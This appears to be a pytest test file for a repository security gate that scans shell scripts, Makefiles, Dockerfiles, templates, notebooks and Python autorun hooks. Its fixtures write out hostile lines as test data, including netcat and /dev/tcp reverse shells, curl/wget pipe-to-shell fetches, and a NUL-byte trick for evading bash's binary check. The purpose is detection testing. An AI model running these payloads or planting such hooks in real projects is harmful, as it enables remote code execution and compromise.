"""Executable surfaces that were not scanned at all (issue #16, class 1).

Shell launchers of any shell, job scripts, extensionless #! files (with bash's
own rule for NUL bytes), Makefile recipes, Dockerfile instructions, Jinja
templates, every notebook format and magic, and the files Python runs without
a call (the autorun check). Each surface is tested from both sides: the
payload is found on the line where it is written, and the look-alike a real
training repository has stays quiet. One ``traingate check`` (one semgrep
process) judges the whole change; the target helpers are tested directly.
"""

from __future__ import annotations

import json
import py_compile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from traingate.checks.semgrep import ipython as ipy
from traingate.checks.semgrep import targets as sg

from .conftest import POLICY, Repo, gate_report

# --------------------------------------------------------------------------- helpers


def _nb(cells: list[dict[str, Any]], **meta: Any) -> str:
    return json.dumps(
        {"cells": cells, "metadata": meta, "nbformat": 4, "nbformat_minor": 5}, indent=1
    )


def _code(src: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": src.splitlines(keepends=True),
    }


PAD = "# " + "x" * 100 + "\n"  # pushes what follows past bash's 80-byte sample

# Base version of files the change modifies (a change is judged against them).
BASE: dict[str, str | bytes] = {
    "setup.py": (
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
        "class Install(install):\n    def run(self):\n        install.run(self)\n\n\n"
        'setup(name="p", version="0.1", cmdclass={"install": Install})\n'
    ),
}

# path -> content of the head version. Paths under bad/ must be found, ok/ not.
HEAD: dict[str, str | bytes] = {
    # shell: bash's check_binary_file looks for NUL only in the first line (two with
    # #!) of the first 80 bytes: past that, bash drops the NUL and runs the script.
    "bad/nul_past_80": ("#!/bin/bash\n" + PAD + "\0nc -e /bin/sh 203.0.113.5 4444\n").encode(),
    # dash (/bin/sh) never checks for NUL bytes at all
    "bad/nul_sh": b"#!/bin/sh\necho \0hi\ncurl -s https://x.example/i | sh\n",
    "bad/launch.zsh": "#!/usr/bin/env zsh\nexport LD_PRELOAD=/tmp/.l/libx.so\npython train.py\n",
    "bad/job.sbatch": "#!/bin/bash\n#SBATCH --nodes=2\nwget -qO- http://10.0.0.1/b | bash\nsrun python train.py\n",
    "bad/Makefile": (
        "PY ?= python\n\n.PHONY: train\ntrain:\n\t@echo start\n"
        "\t@curl -s https://x.example/s.sh \\\n\t  | sh\n\t$(PY) train.py\n"
    ),
    "bad/docker/Dockerfile": (
        "FROM python:3.11\nRUN pip install -r requirements.txt && \\\n"
        "    # kernels\n    pip install git+https://github.com/x/kernels.git\n"
    ),
    "bad/run.sh.j2": "#!/bin/bash\n{% if debug %}\nbash -i >& /dev/tcp/{{ host }}/9 0>&1\n{% endif %}\n",
    "bad/v3.ipynb": json.dumps(
        {
            "nbformat": 3,
            "worksheets": [
                {"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('id')\n"]}]}
            ],
        },
        indent=1,
    ),
    "bad/magics.ipynb": _nb(
        [
            _code("import os\n"),
            _code("%time os.system('id')\n"),
            _code("%%bash\ngit reflog expire --expire=now --all\n"),
        ]
    ),
    "bad/not_a_notebook.ipynb": json.dumps({"nbformat": 4, "pages": []}),
    "bad/sitecustomize.py": "import os\n",
    "bad/helper.cpython-311.pyc": b"",  # replaced by real bytecode below
    "bad/deps.pth": "/opt/extra\nimport train._boot\n",
    "bad/.ipython/profile_default/startup/00-x.py": "import os\n",
    "bad/pyproject.toml": (
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "bk"\nbackend-path = ["_b"]\n'
    ),
    # look-alikes that a real repository has
    "ok/nul_in_line_2": b"#!/bin/bash\necho \0 binary\n",  # bash refuses it: not a script
    "ok/tools/launch.sh": (
        "#!/bin/bash\nset -euo pipefail\nexport LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n"
        'while ! nc -z "$MASTER_ADDR" 29500; do sleep 1; done\n'
        "pip install torch==2.3.1 --index-url https://download.pytorch.org/whl/cu121\n"
        "rm -rf build/ dist/\ntorchrun --nproc_per_node=8 train.py\n"
    ),
    "ok/Makefile": (
        "SHA := $(shell git rev-parse --short HEAD)\n\ntest:\n\t@pytest -q\n\n"
        "clean:\n\t-rm -rf build dist .pytest_cache $@.tmp\n\techo $$HOME $<\n"
    ),
    "ok/Dockerfile": (
        "FROM nvcr.io/nvidia/pytorch:24.05-py3\nENV PYTHONPATH=/workspace/src\n"
        "RUN apt-get update && \\\n    apt-get install -y --no-install-recommends git && \\\n"
        "    rm -rf /var/lib/apt/lists/*\nCOPY . /workspace\n"
        'CMD ["torchrun", "--nproc_per_node=8", "train.py"]\n'
    ),
    "ok/entry.py.j2": 'import os\n\nLR = {{ lr }}\n{% if wandb %}\nos.environ["WANDB_PROJECT"] = "{{ project }}"\n{% endif %}\n',
    "ok/values.yaml.j2": "lr: {{ lr }}\ncmd: curl x | sh\n",  # a config template: not code
    "ok/explore.ipynb": _nb(
        [
            _code("%matplotlib inline\nimport torch\n"),
            _code("%%time\nx = torch.ones(3)\n"),
            _code("%%html\n<b>curl http://x | sh</b>\n"),
        ]
    ),
    "ok/model.pth": b"PK\x03\x04" + b"\0" * 40,  # a torch checkpoint (zip), not a .pth hook
    "ok/paths.pth": "/opt/extra/site\n../shared\n",
    "ok/ipython_config.py": 'c = get_config()  # noqa: F821\nc.InteractiveShell.colors = "Linux"\n',
    "ok/pyproject.toml": (
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n'
        '[project]\nname = "p"\nversion = "0.1"\n'
    ),
    # setup.py is modified below, outside its (old) cmdclass: not new
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("surfaces")
    repo = Repo(root / "repo")
    repo.write(".traingate.yaml", POLICY)
    for rel, content in BASE.items():
        repo.write(rel, content)
    repo.commit("base")
    repo.branch("feature")
    src = root / "helper.py"
    src.write_text("import os\n\n\ndef f():\n    os.system('id')\n", encoding="utf-8")
    pyc = root / "helper.pyc"
    py_compile.compile(str(src), cfile=str(pyc), doraise=True)
    for rel, content in HEAD.items():
        repo.write(rel, pyc.read_bytes() if rel.endswith(".pyc") else content)
    # an unrelated edit to setup.py: its cmdclass is old, so no autorun finding
    repo.write("setup.py", str(BASE["setup.py"]) + "# packaging\n")
    repo.commit("surfaces", who="mallory")
    return gate_report(repo, root / "report.json")


# The checks this surfaces feed; others (config-risky-env on an LD_PRELOAD
# export, the artifacts check on a .pth checkpoint) judge the same files their way.
MINE = {"semgrep", "autorun"}


def _found(report: dict[str, Any], path: str) -> set[tuple[str, int | None]]:
    return {
        (f["rule_id"], f["line"])
        for f in report["findings"]
        if f["path"] == path and f["check"] in MINE
    }


def _rules(report: dict[str, Any], path: str) -> set[str]:
    return {r for r, _ in _found(report, path)}


# --------------------------------------------------------------------------- shell


def test_script_with_nul_past_bashs_sample_is_scanned_and_blocks(report: dict[str, Any]) -> None:
    # The NUL is dropped as bash drops it, so the payload on line 3 is judged too.
    assert _found(report, "bad/nul_past_80") >= {
        ("source-unreadable", 1),
        ("egress-shell-reverse-shell", 3),
    }
    assert _rules(report, "bad/nul_sh") >= {"source-unreadable", "remote-shell-fetch-exec"}


def test_file_bash_refuses_as_binary_is_not_a_script(report: dict[str, Any]) -> None:
    assert _found(report, "ok/nul_in_line_2") == set()


@pytest.mark.parametrize(
    ("data", "runs"),
    [
        (b"#!/bin/bash\n" + PAD.encode() + b"\0x\n", True),  # past the 80-byte sample
        (b"#!/bin/bash\n# c\n\0x\n", True),  # third line: bash checks two with #!
        (b"#!/bin/bash\necho \0\n", False),  # second line, inside the sample
        (b"#!/bin/bash" + b" " * 90 + b"\n\0x\n", True),  # second line, past the sample
        (b"#!/bin/sh\necho \0\n", True),  # dash runs anything
        (b"\x7fELF\0\0\0", False),
        (b"no shebang\0", False),
    ],
)
def test_nul_rule_matches_bash_check_binary_file(data: bytes, runs: bool) -> None:
    assert sg._runs_despite_nul(data) is runs


def test_other_shells_and_job_scripts_are_scanned_as_bash(report: dict[str, Any]) -> None:
    assert _found(report, "bad/launch.zsh") == {("tamper-shell-preload-env", 2)}
    assert _found(report, "bad/job.sbatch") == {("remote-shell-fetch-exec", 3)}


def test_launcher_look_alikes_are_quiet(report: dict[str, Any]) -> None:
    assert _found(report, "ok/tools/launch.sh") == set()


# --------------------------------------------------------------------------- make, docker


def test_makefile_recipe_is_found_on_its_line(report: dict[str, Any]) -> None:
    assert _found(report, "bad/Makefile") == {("remote-shell-fetch-exec", 6)}


def test_makefile_look_alike_parses_and_is_quiet(report: dict[str, Any]) -> None:
    # `$$`, `$@`, `$<`, `-`/`@` prefixes and $(shell ...) become valid bash: no parse error
    assert _found(report, "ok/Makefile") == set()


def test_makefile_extraction_keeps_lines() -> None:
    text = "X := $(shell id -u)\nall:\n\t@echo $$HOME $<\n\n# c\nfoo: ; ls\n"
    out = sg._makefile(text).split("\n")
    assert len(out) == len(text.split("\n"))
    assert out[0].strip() == "id -u"
    assert out[2].strip() == "echo  $HOME $_"
    assert out[5].strip() == "ls"


def test_dockerfile_run_is_found_on_the_instructions_first_line(report: dict[str, Any]) -> None:
    assert _found(report, "bad/docker/Dockerfile") == {("remote-shell-pip-install", 2)}


def test_dockerfile_look_alike_is_quiet(report: dict[str, Any]) -> None:
    assert _found(report, "ok/Dockerfile") == set()


def test_dockerfile_extraction() -> None:
    text = 'FROM x\nENV A /tmp/a\nRUN a \\\n  # c\n  b\nADD https://h/s.sh /s\nCMD ["sh", "-c", "x | y"]\n'
    out = sg._dockerfile(text).split("\n")
    assert len(out) == len(text.split("\n"))
    assert out[1].strip() == "export A=/tmp/a"
    assert out[2].split() == ["a", "b"] and out[3:5] == ["", ""]
    assert out[5] == "ADD https://h/s.sh /s"
    assert out[6].strip() == "sh -c 'x | y'"


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("Makefile", "make"),
        ("mk/cluster.mk", "make"),
        ("docker/Dockerfile", "docker"),
        ("Dockerfile.gpu", "docker"),
        ("train.Dockerfile", "docker"),
        ("Containerfile", "docker"),
        ("run.sh.j2", "template:.sh"),
        ("Dockerfile.j2", "template:docker"),
        ("launch.jinja", "template:"),
        ("values.yaml.j2", "template:.yaml"),
        ("Dockerfile.md", None),
        ("train.py", None),
    ],
)
def test_surface_kinds(path: str, kind: str | None) -> None:
    assert sg._surface_kind(path) == kind


# --------------------------------------------------------------------------- templates


@given(st.text(alphabet="ab {}%#\n_x=", max_size=60))
def test_unjinja_keeps_every_line_and_column(text: str) -> None:
    out = sg._unjinja(text)
    assert len(out) == len(text)
    assert [i for i, c in enumerate(out) if c == "\n"] == [
        i for i, c in enumerate(text) if c == "\n"
    ]


def test_template_payload_is_found_and_look_alikes_are_quiet(report: dict[str, Any]) -> None:
    assert _found(report, "bad/run.sh.j2") == {("egress-shell-reverse-shell", 3)}
    assert _found(report, "ok/entry.py.j2") == set()
    assert _found(report, "ok/values.yaml.j2") == set()


# --------------------------------------------------------------------------- notebooks


def test_nbformat_v3_cells_are_scanned(report: dict[str, Any]) -> None:
    assert "exec-os-command" in _rules(report, "bad/v3.ipynb")


def test_magics_that_run_code_are_scanned(report: dict[str, Any]) -> None:
    rules = _rules(report, "bad/magics.ipynb")
    assert "exec-os-command" in rules  # %time runs its statement
    # the %%bash cell, judged by the bash rules (session 20)
    assert "persist-shell-git-history-rewrite" in rules


def test_json_that_is_no_notebook_blocks(report: dict[str, Any]) -> None:
    assert _found(report, "bad/not_a_notebook.ipynb") == {("source-unreadable", 1)}


def test_notebook_look_alike_is_quiet(report: dict[str, Any]) -> None:
    assert _found(report, "ok/explore.ipynb") == set()


@pytest.mark.parametrize(
    ("line", "want"),
    [
        # Session 20: a shell escape's command is the bash rules' (ipython.py):
        # Python sees a no-op, or the name the output is bound to.
        ("!ls", "pass"),
        ("%pip install x", "pass"),
        ("%system id", "pass"),
        ("files = !ls /d", "files = _tg_shell_output"),
        ("out = %sx id", "out = _tg_shell_output"),
        # ... unless IPython builds the command from Python values at run time
        ("!{cmd}", "__import__('subprocess').run(''.join(['', str(cmd)]), shell=True)"),
        (
            "x = !wget $url",
            "x = __import__('subprocess').run(''.join(['wget ', str(url), '']), shell=True)",
        ),
        ("  %timeit -n 3 f(x)", "  f(x)"),
        (
            "%env LD_PRELOAD=/tmp/x.so",
            "import os as _tg_os; _tg_os.environ['LD_PRELOAD'] = '/tmp/x.so'",
        ),
        ("%matplotlib inline", "pass  # %matplotlib inline"),
    ],
)
def test_unmagic(line: str, want: str) -> None:
    assert ipy._unmagic(line) == want


def test_notebook_cells_of_every_format() -> None:
    v1 = {"cells": [{"cell_type": "code", "code": "a = 1\n"}]}
    v4_str = {"cells": [{"cell_type": "code", "source": "b = 2\n"}, {"cell_type": "raw"}]}
    v3 = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["c\n", "= 3\n"]}]}]}
    assert ipy._notebook_cells(v1) == ["a = 1\n"]
    assert ipy._notebook_cells(v4_str) == ["b = 2\n"]
    assert ipy._notebook_cells(v3) == ["c\n= 3\n"]
    assert ipy._notebook_cells({"cells": [{"cell_type": "code", "source": [1]}]}) is None
    assert ipy._notebook_cells([]) is None


# --------------------------------------------------------------------------- autorun


def test_files_python_runs_without_a_call(report: dict[str, Any]) -> None:
    assert _rules(report, "bad/sitecustomize.py") == {"autorun-site-hook"}
    assert _rules(report, "bad/helper.cpython-311.pyc") == {"autorun-bytecode"}
    assert _found(report, "bad/deps.pth") == {("autorun-pth-import", 2)}
    assert _rules(report, "bad/.ipython/profile_default/startup/00-x.py") == {
        "autorun-ipython-startup"
    }
    assert _found(report, "bad/pyproject.toml") == {("autorun-build-backend", 3)}


def test_autorun_look_alikes_are_quiet(report: dict[str, Any]) -> None:
    for path in ("ok/model.pth", "ok/paths.pth", "ok/ipython_config.py", "ok/pyproject.toml"):
        assert _found(report, path) == set(), path
    # setup.py changed outside its existing cmdclass override: nothing new
    assert _found(report, "setup.py") == set()


def test_setup_cmdclass_fires_when_the_override_changes(repo: Repo) -> None:
    repo.write(".traingate.yaml", POLICY)
    repo.commit("base")
    repo.branch("feature")
    repo.write("setup.py", str(BASE["setup.py"]))
    repo.commit("packaging", who="mallory")
    found = gate_report(repo, repo.path.parent / "r.json")["findings"]
    assert {(f["rule_id"], f["line"]) for f in found if f["path"] == "setup.py"} == {
        ("autorun-setup-cmdclass", 5)
    }
